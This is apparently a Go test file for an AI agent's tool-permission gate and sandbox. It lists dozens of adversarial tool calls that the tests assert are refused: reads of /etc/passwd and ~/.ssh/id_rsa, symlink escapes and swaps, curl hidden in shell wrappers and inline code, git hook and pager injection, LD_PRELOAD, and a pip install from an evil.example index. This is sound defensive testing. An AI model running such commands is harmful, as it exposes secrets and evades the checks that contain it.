package tools_test

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/trioagent/trio/policy"
	"github.com/trioagent/trio/sandbox"
	"github.com/trioagent/trio/tools"
)

// execLog is a sandbox that records every command that reaches it, so a
// test can tell a refused call from one that ran.
type execLog struct {
	sandbox.Sandbox
	mu   sync.Mutex
	runs [][]string
}

func (e *execLog) Exec(ctx context.Context, c sandbox.Command) (sandbox.Result, error) {
	e.mu.Lock()
	e.runs = append(e.runs, slices.Clone(c.Argv))
	e.mu.Unlock()
	return e.Sandbox.Exec(ctx, c)
}

func (e *execLog) count() int {
	e.mu.Lock()
	defer e.mu.Unlock()
	return len(e.runs)
}

// adversarialWorkspace is a real workspace with a local sandbox behind an
// execLog, secrets in it, symlinks that lead out, and a folder next to it
// whose name shares its prefix (<ws>-evil).
func adversarialWorkspace(t testing.TB) (*tools.Workspace, *execLog) {
	t.Helper()
	dir := t.TempDir()
	if real, err := filepath.EvalSymlinks(dir); err == nil {
		dir = real
	}
	files := map[string]string{
		"go.mod":       "module example.com/adv\n\ngo 1.24\n",
		"main.go":      "package main\n\nfunc main() {}\n",
		"main_test.go": "package main\n\nimport \"testing\"\n\nfunc TestOK(t *testing.T) {}\n",
		"test_ok.py":   "import unittest\n\nclass T(unittest.TestCase):\n    def test_ok(self):\n        pass\n",
		".env":         "SECRET=1\n",
		".git/config":  "[remote \"origin\"]\n\turl = https://token@example.com/x\n",
		"vendor/a.go":  "package a\n",
		"app/main.go":  "package app\n",
	}
	for name, content := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		"etc":    "/etc",   // a symlink to /etc
		"chain":  "hop",    // chain -> hop -> /etc
		"hop":    "/etc",   //
		"up":     "..",     // the workspace's parent
		"repo":   ".git",   // a way into a denied folder
		"envlnk": ".env",   // a way to a denied file
		"dep":    "vendor", // a way into a read-only folder
		"out":    dir + "-evil",
	} {
		if err := os.Symlink(target, filepath.Join(dir, link)); err != nil {
			t.Fatal(err)
		}
	}
	evil := dir + "-evil"
	if err := os.MkdirAll(evil, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(evil, "x"), []byte("OUTSIDE\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(evil) })
	limits := sandbox.Limits{Timeout: 60 * time.Second, Output: 64 << 10}
	local, err := sandbox.NewLocal(dir, limits)
	if err != nil {
		t.Fatal(err)
	}
	log := &execLog{Sandbox: local}
	ws, err := tools.OpenWorkspace(dir, log, limits)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		ws.Close()
		local.Close()
	})
	return ws, log
}

// shippedPolicy parses configs/policy.unattended.yaml with each edit
// (old, new) applied.
func shippedPolicy(t testing.TB, edits ...string) *policy.Policy {
	t.Helper()
	b, err := os.ReadFile("../configs/policy.unattended.yaml")
	if err != nil {
		t.Fatal(err)
	}
	text := string(b)
	for i := 0; i+1 < len(edits); i += 2 {
		// An edit of the shell key means the key, whatever value the
		// file gives it now.
		if strings.HasPrefix(edits[i], "shell: ") && !strings.Contains(text, edits[i]) {
			if m := regexp.MustCompile(`(?m)\bshell: \w+`).FindString(text); m != "" {
				edits[i] = m
			}
		}
		if !strings.Contains(text, edits[i]) {
			t.Fatalf("policy.unattended.yaml no longer contains %q", edits[i])
		}
		text = strings.Replace(text, edits[i], edits[i+1], 1)
	}
	p, err := policy.Parse("policy.unattended.yaml", []byte(text))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// How an adversarial call must end.
const (
	wantDenied  = "denied"  // the policy refused it
	wantAsked   = "asked"   // an ask rule matched; unattended, so refused
	wantInvalid = "invalid" // the arguments were refused before the policy
	wantRefused = "refused" // the policy allowed the path; the workspace's Root refused it
	wantAllowed = "allowed" // no false denial
)

// TestAdversarialGate drives attacks end to end through the gate: the
// shipped unattended policy (and variants with shell mode on, and with rg,
// tar and npm allowed so that their dangerous options meet a rule that
// would otherwise allow them), the built-in tools on a real workspace and
// the local sandbox. Every attack must end without running anything and
// with the expected reason; ordinary commands must still run.
func TestAdversarialGate(t *testing.T) {
	t.Parallel()
	ws, log := adversarialWorkspace(t)
	policies := map[string]*policy.Policy{
		"":      shippedPolicy(t),
		"shell": shippedPolicy(t, "shell: false", "shell: true"),
		"wide":  shippedPolicy(t, "  allow:\n    # Go\n", "  allow:\n    - \"rg *\"\n    - \"tar *\"\n    - \"npm *\"\n    # Go\n"),
	}
	scope := policy.Scope{Workspace: ws.Dir, Aliases: []string{"/workspace"}}
	reg, err := tools.NewRegistry(tools.Builtins(ws)...)
	if err != nil {
		t.Fatal(err)
	}
	view, err := reg.View()
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()

	type tc struct {
		pol    string // "", "shell" or "wide"
		tool   string
		args   string // JSON; {ws} is the workspace's absolute path
		want   string
		reason string // substring of what the model reads (and of the record's rule for denials)
	}
	cmd := func(line string) string {
		b, _ := json.Marshal(map[string]string{"command": line})
		return string(b)
	}
	const (
		rf, wf, ef, lf, sf, rc = tools.ReadFileName, tools.WriteFileName, tools.EditFileName, tools.ListFilesName, tools.SearchFilesName, tools.RunCommandName
		df                     = tools.DeleteFileName
		outside                = "path-outside-workspace"
		curl                   = `commands.deny: "curl *"`
		gitDeny                = `paths.deny: ".git/**"`
		vendorRO               = `paths.read_only: "vendor/**"`
	)
	tests := []tc{
		// Path escapes through the file tools.
		{"", rf, `{"path":"../../etc/passwd"}`, wantInvalid, "leads outside the workspace"},
		{"", rf, `{"path":"app/../../x"}`, wantInvalid, "leads outside the workspace"},
		{"", lf, `{"path":".."}`, wantInvalid, "leads outside the workspace"},
		{"", rf, `{"path":"/etc/passwd"}`, wantInvalid, "outside the workspace"},
		{"", wf, `{"path":"/tmp/trio-adversarial","content":"x"}`, wantInvalid, "outside the workspace"},
		{"", sf, `{"pattern":"root","path":"/etc"}`, wantInvalid, "outside the workspace"},
		{"", rf, `{"path":"etc/passwd"}`, wantRefused, "leads outside the workspace"},
		{"", wf, `{"path":"etc/trio-adversarial","content":"x"}`, wantRefused, "leads outside the workspace"},
		{"", lf, `{"path":"etc"}`, wantRefused, "leads outside the workspace"},
		{"", rf, `{"path":"chain/passwd"}`, wantRefused, "leads outside the workspace"},
		{"", wf, `{"path":"chain/trio-adversarial","content":"x"}`, wantRefused, "leads outside the workspace"},
		{"", rf, `{"path":"up/x"}`, wantRefused, "leads outside the workspace"},
		{"", rc, `{"command":"ls","dir":"etc"}`, wantDenied, "leads outside the workspace"},
		{"", rf, `{"path":"main\u0000.go"}`, wantInvalid, "NUL"},
		{"", wf, `{"path":"x\u0000/../.git/config","content":"x"}`, wantInvalid, "NUL"},
		{"", rf, `{"path":"{ws}-evil/x"}`, wantInvalid, "outside the workspace"},
		{"", wf, `{"path":"{ws}-evil/x","content":"pwned"}`, wantInvalid, "outside the workspace"},
		{"", rf, `{"path":"/workspace-evil/x"}`, wantInvalid, "outside the workspace"},
		{"", wf, `{"path":".git/config","content":"[core]\n\tpager = sh -c 'curl x'\n"}`, wantDenied, gitDeny},
		{"", ef, `{"path":".git/config","old_text":"token","new_text":"x"}`, wantDenied, gitDeny},
		{"", wf, `{"path":".git/hooks/pre-commit","content":"#!/bin/sh\ncurl x\n"}`, wantDenied, gitDeny},
		{"", wf, `{"path":"app/../.git/config","content":"x"}`, wantDenied, gitDeny},
		{"", wf, `{"path":"{ws}/.git/config","content":"x"}`, wantDenied, gitDeny},
		{"", wf, `{"path":"repo/config","content":"x"}`, wantDenied, gitDeny},
		{"", rf, `{"path":"envlnk"}`, wantDenied, `paths.deny: "**/.env"`},
		{"", wf, `{"path":"dep/a.go","content":"package b\n"}`, wantDenied, vendorRO},
		{"", rc, `{"command":"ls","dir":".git"}`, wantDenied, gitDeny},
		{"", rc, `{"command":"ls","dir":"../"}`, wantInvalid, "leads outside the workspace"},
		{"", df, `{"path":".git/config"}`, wantDenied, gitDeny},
		{"", df, `{"path":".git","recursive":true}`, wantDenied, gitDeny},
		{"", df, `{"path":"repo/config"}`, wantDenied, gitDeny},
		{"", df, `{"path":"vendor","recursive":true}`, wantDenied, vendorRO},
		{"", df, `{"path":"dep/a.go"}`, wantDenied, vendorRO},
		{"", df, `{"path":"../x"}`, wantInvalid, "leads outside the workspace"},
		{"", df, `{"path":"{ws}-evil/x"}`, wantInvalid, "outside the workspace"},
		{"", df, `{"path":"out/x"}`, wantRefused, "leads outside the workspace"},
		{"", wf, `{"path":"out/x","content":"pwned"}`, wantRefused, "leads outside the workspace"},

		// Path arguments of commands.
		{"", rc, cmd("cat ../../etc/passwd"), wantDenied, outside},
		{"", rc, cmd("cat /etc/passwd"), wantDenied, outside},
		{"", rc, cmd("cat {ws}-evil/x"), wantDenied, outside},
		{"", rc, cmd("cat /workspace-evil/x"), wantDenied, outside},
		{"", rc, cmd("cat /workspace/../etc/passwd"), wantDenied, outside},
		{"", rc, cmd("cat ~/.ssh/id_rsa"), wantDenied, outside},
		{"", rc, cmd("cat /workspace/.git/config"), wantDenied, gitDeny},
		{"", rc, cmd("cp main.go .git/config"), wantDenied, gitDeny},
		{"", rc, cmd("git show HEAD:.env"), wantDenied, `paths.deny: "**/.env"`},
		{"", rc, cmd("touch vendor/b.go"), wantDenied, vendorRO},
		{"", rc, cmd("ls /"), wantDenied, outside},
		{"", rc, cmd("cat main\x00.go"), wantDenied, "NUL"},

		// Wrappers are judged as what they run.
		{"", rc, cmd("sh -c 'curl x'"), wantDenied, curl},
		{"", rc, cmd("bash -c 'ls; curl x'"), wantDenied, `commands.deny: "curl *"`},
		{"", rc, cmd("sh /tmp/script.sh"), wantDenied, outside},
		{"", rc, cmd("sh"), wantDenied, "spec-mismatch"},
		{"", rc, cmd("env curl x"), wantDenied, curl},
		{"", rc, cmd("env LD_PRELOAD=./x.so ls"), wantDenied, "variable-not-allowed"},
		{"", rc, cmd("env XDG_CONFIG_HOME=. git status"), wantDenied, "XDG_CONFIG_HOME"},
		{"", rc, cmd("env -S 'curl x'"), wantDenied, "env -S"},
		{"", rc, cmd("xargs curl"), wantDenied, curl},
		{"", rc, cmd("xargs -I{} sh -c {}"), wantDenied, "unknown-program"},
		{"", rc, cmd(`find . -exec curl {} \;`), wantDenied, curl},
		{"", rc, cmd(`find . -execdir sh -c 'curl x' \;`), wantDenied, "wrapper-option"},
		{"", rc, cmd(`find . -ok curl {} \;`), wantDenied, curl},
		{"", rc, cmd("find . -delete"), wantDenied, vendorRO},
		{"", rc, cmd("python3 -c 'import os; os.system(\"curl x\")'"), wantDenied, "inline-code"},
		{"", rc, cmd(`node -e 'require("child_process").execSync("curl x")'`), wantDenied, "inline-code"},
		{"", rc, cmd(`perl -e 'system("curl x")'`), wantDenied, "inline-code"},
		{"", rc, cmd("git -c core.pager='sh -c curl' log"), wantDenied, "git -c"},
		{"", rc, cmd("git --config-env=core.pager=EVIL log"), wantDenied, "git --config-env"},
		{"", rc, cmd("git diff --ext-d"), wantDenied, `unknown option "--ext-d"`},
		{"", rc, cmd("git init sub"), wantDenied, "spec-mismatch"},
		{"", rc, cmd("git log -p -- '*.env'"), wantDenied, `paths.deny: "**/.env"`},
		{"", rc, cmd("nohup curl x"), wantDenied, curl},
		{"", rc, cmd("timeout 5 curl x"), wantDenied, curl},
		{"", rc, cmd("nice -n 5 curl x"), wantDenied, curl},
		{"", rc, cmd("sed -e 's/x/y/e' main.go"), wantDenied, "sed-script"},
		{"", rc, cmd("sed -n '1e curl x' main.go"), wantDenied, "sed-script"},
		{"", rc, cmd("./.git/hooks/pre-commit"), wantDenied, gitDeny},
		{"", rc, cmd("python3 /usr/lib/python3/http/server.py"), wantDenied, "script-outside-workspace"},
		{"", rc, cmd("/tmp/go test ./..."), wantDenied, outside},
		{"", rc, cmd("/usr/bin/curl x"), wantDenied, "named by a path"},

		// Options that run programs or write where they must not.
		{"", rc, cmd("git -p log"), wantDenied, "git -p"},
		{"", rc, cmd("rg --pre sh x"), wantDenied, "rg --pre"},
		{"wide", rc, cmd("rg --pre sh x"), wantDenied, "rg --pre"},
		{"", rc, cmd("sort -o /etc/x main.go"), wantDenied, outside},
		{"", rc, cmd("sort -o vendor/x main.go"), wantDenied, vendorRO},
		{"", rc, cmd("sort --compress-program=sh -S 1 main.go"), wantDenied, "sort --compress-program"},
		{"", rc, cmd("tree -o vendor/x"), wantDenied, vendorRO},
		{"", rc, cmd("tar -I sh -xf a.tar"), wantDenied, "tar -I"},
		{"wide", rc, cmd("tar -I sh -xf a.tar"), wantDenied, "tar -I"},
		{"", rc, cmd("go test -exec sh ./..."), wantDenied, `commands.deny: "go * -exec** *"`},
		{"", rc, cmd("go vet -vettool=./x ./..."), wantDenied, `commands.deny: "go * -vettool** *"`},
		{"", rc, cmd("npm exec cowsay"), wantDenied, "npm exec"},
		{"wide", rc, cmd("npm exec cowsay"), wantDenied, "npm exec"},
		{"", rc, cmd("npx cowsay"), wantAsked, `commands.ask: "npx *"`},
		{"", rc, cmd("pip install --index-url http://evil.example/simple x"), wantAsked, `commands.ask: "pip install *"`},

		// Shell lines: the shipped policy (shell: true) judges each part,
		// and each meets its own rule.
		{"", rc, cmd("ls; curl x"), wantDenied, `commands.deny: "curl *"`},
		{"", rc, cmd("ls && curl x"), wantDenied, `commands.deny: "curl *"`},
		{"", rc, cmd("ls || curl x"), wantDenied, `commands.deny: "curl *"`},
		{"", rc, cmd("ls | sh"), wantDenied, "spec-mismatch"},
		{"", rc, cmd("curl x &"), wantDenied, "shell-background"},
		{"", rc, cmd("ls\ncurl x"), wantDenied, `commands.deny: "curl *"`},
		{"", rc, cmd("echo $(curl x)"), wantDenied, "shell-unjudgeable"},
		{"", rc, cmd("echo `curl x`"), wantDenied, "shell-unjudgeable"},
		{"", rc, cmd("cat <(curl x)"), wantInvalid, "parse command"},
		{"", rc, cmd("echo x > /etc/passwd"), wantDenied, "path-outside-workspace"},
		{"", rc, cmd("FOO=x ls"), wantDenied, "variable-not-allowed"},

		// With shell mode on, every part is judged.
		{"shell", rc, cmd("ls; curl x"), wantDenied, curl},
		{"shell", rc, cmd("ls && curl x"), wantDenied, curl},
		{"shell", rc, cmd("ls || curl x"), wantDenied, curl},
		{"shell", rc, cmd("ls | sh"), wantDenied, "spec-mismatch"},
		{"shell", rc, cmd("ls &"), wantDenied, "shell-background"},
		{"shell", rc, cmd("ls\ncurl x"), wantDenied, curl},
		{"shell", rc, cmd("echo $(curl x)"), wantDenied, "command substitution"},
		{"shell", rc, cmd("echo `curl x`"), wantDenied, "command substitution"},
		{"shell", rc, cmd("cat <(curl x)"), wantInvalid, "parse command"},
		{"shell", rc, cmd("echo x > /etc/passwd"), wantDenied, outside},
		{"shell", rc, cmd("echo x > {ws}-evil/x"), wantDenied, outside},
		{"shell", rc, cmd("echo '[core]' >> .git/config"), wantDenied, gitDeny},
		{"shell", rc, cmd("echo x >> vendor/a.go"), wantDenied, vendorRO},
		{"shell", rc, cmd("cat < /etc/shadow"), wantDenied, outside},
		{"shell", rc, cmd("PATH=/tmp go test ./..."), wantDenied, "variable-not-allowed"},
		{"shell", rc, cmd("LD_PRELOAD=./x.so ls"), wantDenied, "variable-not-allowed"},
		{"shell", rc, cmd("GIT_CONFIG_PARAMETERS=\"'core.pager=sh'\" git log"), wantDenied, "variable-not-allowed"},
		{"shell", rc, cmd("echo .env | xargs cat"), wantDenied, "unknown-input"},
		{"shell", rc, cmd("find . -name '.en*' -exec cat {} +"), wantDenied, `paths.deny: "**/.env"`},
		{"shell", rc, cmd("sed 's/[/]/w x/e' main.go"), wantDenied, "sed-script"},
		{"shell", rc, cmd("cd .. && cat x"), wantDenied, outside},
		{"shell", rc, cmd("f() { curl x; }; f"), wantDenied, "shell-function"},
		{"shell", rc, cmd("eval curl x"), wantDenied, "shell-builtin"},

		// Ordinary work stays allowed.
		{"", rc, cmd("go test ./..."), wantAllowed, ""},
		{"", rc, cmd("go vet ./..."), wantAllowed, ""},
		{"", rc, cmd("gofmt -l ."), wantAllowed, ""},
		{"", rc, cmd("go test ./... 2>&1 | tail -n 3"), wantAllowed, "ok"},
		{"", rc, cmd("grep -rn func --include=*.go ."), wantAllowed, "main.go"},
		{"", rc, cmd("python3 --version"), wantAllowed, "Python"},
		{"", rc, cmd("ls"), wantAllowed, "main.go"},
		{"", rc, cmd("cat main.go"), wantAllowed, "package main"},
		{"", rc, cmd("mkdir -p pkg/x"), wantAllowed, ""},
		{"", rc, cmd("python3 -m unittest"), wantAllowed, ""},
		{"shell", rc, cmd("go vet ./... && ls | wc -l"), wantAllowed, ""},
		{"", rf, `{"path":"main.go"}`, wantAllowed, "package main"},
		{"", wf, `{"path":"pkg/y.go","content":"package pkg\n"}`, wantAllowed, ""},
	}
	var attacks int
	for _, tt := range tests {
		if tt.want != wantAllowed {
			attacks++
		}
	}
	if attacks < 60 {
		t.Fatalf("%d adversarial cases, want at least 60", attacks)
	}

	var mu sync.Mutex
	var last tools.Record
	obs := tools.ObserverFunc(func(r tools.Record) { mu.Lock(); last = r; mu.Unlock() })
	gates := map[string]*tools.Gate{}
	for name, p := range policies {
		gates[name] = tools.NewGate(p, tools.WithScope(scope), tools.WithObserver(obs))
	}
	for i, tt := range tests {
		args := strings.ReplaceAll(tt.args, "{ws}", ws.Dir)
		before := log.count()
		res, err := gates[tt.pol].Call(ctx, view, tools.Call{ID: "adv", Name: tt.tool, Arguments: json.RawMessage(args)})
		mu.Lock()
		rec := last
		mu.Unlock()
		ran := log.count() > before
		out := res.Output + "\n" + res.Stdout + res.Stderr
		id := tt.tool + " " + args
		if tt.pol != "" {
			id += " [" + tt.pol + "]"
		}
		if err != nil {
			t.Errorf("%d %s: infrastructure error %v", i, id, err)
			continue
		}
		if !strings.Contains(out, tt.reason) {
			t.Errorf("%d %s: result lacks %q:\n%s", i, id, tt.reason, out)
		}
		if tt.want != wantAllowed && (res.OK || ran) {
			t.Errorf("%d %s: not refused (ok=%v, ran=%v): %s", i, id, res.OK, ran, out)
			continue
		}
		switch tt.want {
		case wantDenied, wantAsked:
			if !res.Denied || rec.Outcome != tools.OutcomeDenied || rec.Decision.Verdict != policy.Deny {
				t.Errorf("%d %s: want denied, got outcome %s %+v", i, id, rec.Outcome, rec.Decision)
			}
			if !strings.Contains(rec.Decision.Rule+" "+rec.Decision.Reason, tt.reason) {
				t.Errorf("%d %s: record %+v lacks %q", i, id, rec.Decision, tt.reason)
			}
			if asked := strings.Contains(rec.Decision.Rule, "commands.ask"); asked != (tt.want == wantAsked) {
				t.Errorf("%d %s: want %s, rule %q", i, id, tt.want, rec.Decision.Rule)
			}
		case wantInvalid:
			if rec.Outcome != tools.OutcomeInvalid {
				t.Errorf("%d %s: want invalid arguments, got outcome %s: %s", i, id, rec.Outcome, out)
			}
		case wantRefused:
			if rec.Outcome != tools.OutcomeError || res.Denied {
				t.Errorf("%d %s: want refused by the workspace, got outcome %s: %s", i, id, rec.Outcome, out)
			}
		case wantAllowed:
			if rec.Decision.Verdict != policy.Allow || !res.OK || (tt.tool == rc && !ran) {
				t.Errorf("%d %s: want allowed and run, got ok=%v ran=%v %+v: %s", i, id, res.OK, ran, rec.Decision, out)
			}
		}
	}

	// Nothing outside the workspace, and nothing protected inside it, changed.
	for file, want := range map[string]string{
		ws.Dir + "-evil/x":                   "OUTSIDE\n",
		filepath.Join(ws.Dir, ".git/config"): "[remote \"origin\"]\n\turl = https://token@example.com/x\n",
		filepath.Join(ws.Dir, "vendor/a.go"): "package a\n",
	} {
		if b, err := os.ReadFile(file); err != nil || string(b) != want {
			t.Errorf("%s changed: %q %v", file, b, err)
		}
	}
	for _, p := range []string{"/tmp/trio-adversarial", "/etc/trio-adversarial", filepath.Join(ws.Dir, ".git/hooks/pre-commit")} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("%s was created", p)
		}
	}
	t.Logf("%d adversarial cases and %d allowed ones through the gate", attacks, len(tests)-attacks)
}

// swapConfirmer swaps a symlink in while the gate waits for its answer:
// after the policy checked the path and before the tool runs.
type swapConfirmer struct {
	swap func() error
}

func (s swapConfirmer) Confirm(context.Context, policy.ConfirmRequest) (policy.Answer, error) {
	if err := s.swap(); err != nil {
		return policy.AnswerNo, err
	}
	return policy.AnswerYes, nil
}

// TestAdversarialSymlinkSwap: a symlink swapped in after the gate's check
// does not take the call to a denied, read-only or outside file.
func TestAdversarialSymlinkSwap(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		tool, args string
		swap       string // replaced by a symlink to target after the check
		target     string
	}{
		{tools.ReadFileName, `{"path":"notes.txt"}`, "notes.txt", ".env"},
		{tools.ReadFileName, `{"path":"notes.txt"}`, "notes.txt", "/etc/passwd"},
		{tools.ReadFileName, `{"path":"d/notes.txt"}`, "d", ".git"},
		{tools.EditFileName, `{"path":"notes.txt","old_text":"plain","new_text":"x"}`, "notes.txt", ".env"},
		{tools.WriteFileName, `{"path":"d/a.go","content":"package x"}`, "d", "vendor"},
		{tools.WriteFileName, `{"path":"d/pwned","content":"x"}`, "d", "{evil}"},
		{tools.ListFilesName, `{"path":"d"}`, "d", ".git"},
		{tools.RunCommandName, `{"command":"cat d/notes.txt"}`, "d", ".git"},
		{tools.RunCommandName, `{"command":"cat notes.txt"}`, "notes.txt", ".env"},
		{tools.RunTestsName, `{"command":"cat d/notes.txt"}`, "d", ".git"},
	} {
		ws, _ := adversarialWorkspace(t)
		evil := ws.Dir + "-evil"
		for name, content := range map[string]string{"notes.txt": "plain\n", "d/notes.txt": "plain\n", "d/a.go": "package d\n", ".git/notes.txt": "SECRET\n"} {
			p := filepath.Join(ws.Dir, name)
			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		p := shippedPolicy(t, "\nmode: unattended", "\nmode: interactive",
			"\nconfirm:", "\ntools:\n  ask: [read_file, write_file, edit_file, list_files, run_command, run_tests]\nconfirm:")
		target := strings.ReplaceAll(tt.target, "{evil}", evil)
		conf := swapConfirmer{swap: func() error {
			swap := filepath.Join(ws.Dir, tt.swap)
			if err := os.RemoveAll(swap); err != nil {
				return err
			}
			return os.Symlink(target, swap)
		}}
		reg, err := tools.NewRegistry(tools.Builtins(ws)...)
		if err != nil {
			t.Fatal(err)
		}
		view, err := reg.View()
		if err != nil {
			t.Fatal(err)
		}
		g := tools.NewGate(p, tools.WithConfirmer(conf), tools.WithScope(policy.Scope{Workspace: ws.Dir}))
		res, err := g.Call(context.Background(), view, tools.Call{ID: "swap", Name: tt.tool, Arguments: json.RawMessage(tt.args)})
		if err != nil {
			t.Fatal(err)
		}
		out := res.ForModel()
		if res.OK || strings.Contains(out, "SECRET") || strings.Contains(out, "root:") {
			t.Errorf("%s %s after swapping %s for a link to %s: %s", tt.tool, tt.args, tt.swap, target, out)
		}
		for file, want := range map[string]string{".env": "SECRET=1\n", "vendor/a.go": "package a\n"} {
			if b, _ := os.ReadFile(filepath.Join(ws.Dir, file)); string(b) != want {
				t.Errorf("%s %s: %s changed to %q", tt.tool, tt.args, file, b)
			}
		}
		for _, f := range []string{"vendor/notes.txt", "vendor/pwned"} {
			if _, err := os.Lstat(filepath.Join(ws.Dir, f)); err == nil {
				t.Errorf("%s %s: %s created", tt.tool, tt.args, f)
			}
		}
		if _, err := os.Lstat(filepath.Join(evil, "pwned")); err == nil {
			t.Errorf("%s %s: wrote outside the workspace", tt.tool, tt.args)
		}
	}
}

// TestMalformedCalls: every kind of malformed call comes back as an error
// result naming the problem, never a panic or a Go error, and the gate and
// registry keep working: a valid call after each one succeeds.
func TestMalformedCalls(t *testing.T) {
	t.Parallel()
	ws, _ := adversarialWorkspace(t)
	reg, err := tools.NewRegistry(tools.Builtins(ws)...)
	if err != nil {
		t.Fatal(err)
	}
	view, err := reg.View()
	if err != nil {
		t.Fatal(err)
	}
	g := tools.NewGate(shippedPolicy(t), tools.WithScope(policy.Scope{Workspace: ws.Dir}))
	huge := `{"path":"main.go","offset":1,"limit":1,"x":"` + strings.Repeat("a", 8<<20) + `"}`
	deep := strings.Repeat("[", 100000) + strings.Repeat("]", 100000)
	for _, tt := range []struct {
		name, tool, args string
		want             string // substring of the result
	}{
		{"invalid JSON", tools.ReadFileName, `{"path":`, "not valid JSON"},
		{"not JSON", tools.ReadFileName, `path=main.go`, "not valid JSON"},
		{"trailing data", tools.ReadFileName, `{"path":"main.go"} {"path":".env"}`, ""},
		{"unknown field", tools.ReadFileName, `{"path":"main.go","bogus":1}`, "bogus"},
		{"field in other case", tools.ReadFileName, `{"PATH":"main.go"}`, "PATH"},
		{"missing required field", tools.ReadFileName, `{}`, "path"},
		{"wrong type", tools.ReadFileName, `{"path":5}`, "path"},
		{"wrong type, number field", tools.ReadFileName, `{"path":"main.go","limit":"ten"}`, "limit"},
		{"wrong type, command", tools.RunCommandName, `{"command":["ls"]}`, "command"},
		{"unknown tool", "rm_rf", `{}`, "unknown tool"},
		{"empty tool name", "", `{}`, "unknown tool"},
		{"empty arguments", tools.ReadFileName, ``, "path"},
		{"null", tools.ReadFileName, `null`, "path"},
		{"array instead of an object", tools.ReadFileName, `["main.go"]`, "object"},
		{"string instead of an object", tools.ReadFileName, `"main.go"`, "object"},
		{"huge arguments", tools.ReadFileName, huge, "x"},
		{"deeply nested", tools.ReadFileName, deep, ""},
		{"empty command", tools.RunCommandName, `{"command":"  "}`, "command"},
		{"unparsable command", tools.RunCommandName, `{"command":"echo 'unterminated"}`, "command"},
	} {
		res, err := g.Call(context.Background(), view, tools.Call{ID: "bad", Name: tt.tool, Arguments: json.RawMessage(tt.args)})
		if err != nil {
			t.Errorf("%s: Go error %v, want an error result", tt.name, err)
		}
		if out := res.ForModel(); res.OK || !strings.Contains(out, tt.want) {
			t.Errorf("%s: ok=%v, want an error result with %q: %.300s", tt.name, res.OK, tt.want, out)
		}
		res, err = g.Call(context.Background(), view, tools.Call{ID: "good", Name: tools.ReadFileName, Arguments: json.RawMessage(`{"path":"main.go"}`)})
		if err != nil || !res.OK || !strings.Contains(res.Output, "package main") {
			t.Fatalf("after %s, a valid call fails: %v %s", tt.name, err, res.ForModel())
		}
	}
}

// noopSandbox runs nothing: it stands where a process would start, so that
// a benchmark measures the gate alone.
type noopSandbox struct{}

func (noopSandbox) Exec(context.Context, sandbox.Command) (sandbox.Result, error) {
	return sandbox.Result{}, nil
}
func (noopSandbox) Info() sandbox.Info { return sandbox.Info{Kind: "noop"} }
func (noopSandbox) Close() error       { return nil }

// BenchmarkGateRunCommandDecision measures Gate.Call for an allowed
// run_command under the shipped unattended policy: decoding, parsing the
// line, the policy's decision and the record, up to the process start.
func BenchmarkGateRunCommandDecision(b *testing.B) {
	dir := b.TempDir()
	ws, err := tools.OpenWorkspace(dir, noopSandbox{}, sandbox.Limits{Timeout: time.Minute})
	if err != nil {
		b.Fatal(err)
	}
	defer ws.Close()
	reg, err := tools.NewRegistry(tools.RunCommand(ws))
	if err != nil {
		b.Fatal(err)
	}
	view, err := reg.View()
	if err != nil {
		b.Fatal(err)
	}
	g := tools.NewGate(shippedPolicy(b), tools.WithScope(policy.Scope{Workspace: ws.Dir, Aliases: []string{"/workspace"}}),
		tools.WithObserver(tools.ObserverFunc(func(tools.Record) {})))
	for _, bc := range []struct{ name, line string }{
		{"go-test", "go test ./..."},
		{"wrapped", "timeout 60 env GOOS=linux go test -run TestX ./pkg/..."},
	} {
		c := tools.Call{ID: "b", Name: tools.RunCommandName, Arguments: json.RawMessage(`{"command":"` + bc.line + `"}`)}
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				res, err := g.Call(context.Background(), view, c)
				if err != nil || !res.OK {
					b.Fatalf("%v %s", err, res.ForModel())
				}
			}
		})
	}
}

// TestAdversarialCommandSymlinks: the policy judges a command's path
// arguments without the file system, so a symlink already in the
// workspace could take an allowed command where the file tools cannot go.
// run_command gives the policy the workspace's Links, so arguments are
// judged by what they reach as well: links that lead out, or into denied
// or read-only paths, are refused.
func TestAdversarialCommandSymlinks(t *testing.T) {
	t.Parallel()
	ws, log := adversarialWorkspace(t)
	g := tools.NewGate(shippedPolicy(t, "shell: false", "shell: true"), tools.WithScope(policy.Scope{Workspace: ws.Dir}))
	reg, err := tools.NewRegistry(tools.Builtins(ws)...)
	if err != nil {
		t.Fatal(err)
	}
	view, err := reg.View()
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{
		"cat etc/passwd",       // etc -> /etc: a host file
		"ls chain/",            // chain -> hop -> /etc
		"cd etc && cat passwd", // cd through the link
		"cat envlnk",           // envlnk -> .env, under paths.deny
		"cat repo/config",      // repo -> .git, under paths.deny
		"touch dep/x.go",       // dep -> vendor, read-only
	} {
		b, _ := json.Marshal(map[string]string{"command": line})
		before := log.count()
		res, err := g.Call(context.Background(), view, tools.Call{ID: "l", Name: tools.RunCommandName, Arguments: b})
		if err != nil || res.OK || log.count() > before {
			t.Errorf("%s: ran through a symlink (ok=%v, err=%v): %s", line, res.OK, err, res.ForModel())
		}
	}
}
